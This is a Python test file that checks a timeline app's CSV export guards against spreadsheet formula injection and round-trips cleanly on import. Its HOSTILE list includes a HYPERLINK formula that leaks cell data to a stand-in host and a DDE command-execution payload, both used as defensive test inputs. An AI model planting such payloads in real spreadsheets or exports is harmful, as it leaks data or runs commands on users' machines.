"""CSV exports never hand a spreadsheet a formula, and still import back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from desktop.export import ExportOptions, export_file, gather
from desktop.services.editing import create_event, ensure_lane, update_event
from desktop.services.formula_guard import TRIGGERS, guard, unguard
from desktop.services.interchange import import_events_file
from desktop.store import open_workspace
from desktop.temporal import FuzzyDate

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
    "'plain apostrophe",
    "ordinary title",
]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab "), max_size=6) | st.text(max_size=20))
def test_guard_is_safe_and_reversible(value: str) -> None:
    cell = guard(value)
    assert cell[:1] not in TRIGGERS
    assert unguard(cell) == value


def test_exported_cells_are_neutralised_and_import_back(tmp_path: Path) -> None:
    ws = open_workspace(tmp_path / "w.chronologue")
    lane = ensure_lane(ws, "=lane()")
    for i, text in enumerate(HOSTILE):
        eid = create_event(ws, text, FuzzyDate.day(2018, 9, i + 1), description=text)
        update_event(ws, eid, lane_id=lane, tags=["@tag", "-x"])
    out = tmp_path / "events.csv"
    export_file(ws, out, "csv", ExportOptions(statuses=None))

    with out.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in TRIGGERS, (column, cell)
    by_title = {unguard(r["title"]): r for r in rows}
    assert by_title["-2+3"]["title"] == "'-2+3"
    assert by_title["-2+3"]["lane"] == "'=lane()"
    assert by_title["'=already quoted"]["title"] == "''=already quoted"
    assert by_title["'plain apostrophe"]["title"] == "'plain apostrophe"
    assert by_title["ordinary title"]["title"] == "ordinary title"

    back = open_workspace(tmp_path / "back.chronologue")
    report = import_events_file(back, out)
    assert report.skipped == [] and report.events == len(HOSTILE)
    original = gather(ws, ExportOptions(statuses=None)).events
    again = gather(back, ExportOptions(statuses=None)).events

    def facts(events):  # titles are stripped on import, as ever
        rows = [(e.title.strip(), e.description, e.lane, sorted(e.tags), e.start.iso_bounds())
                for e in events]  # fmt: skip
        return sorted(rows, key=lambda r: (r[4], r[0]))

    assert facts(again) == facts(original)
    ws.close()
    back.close()
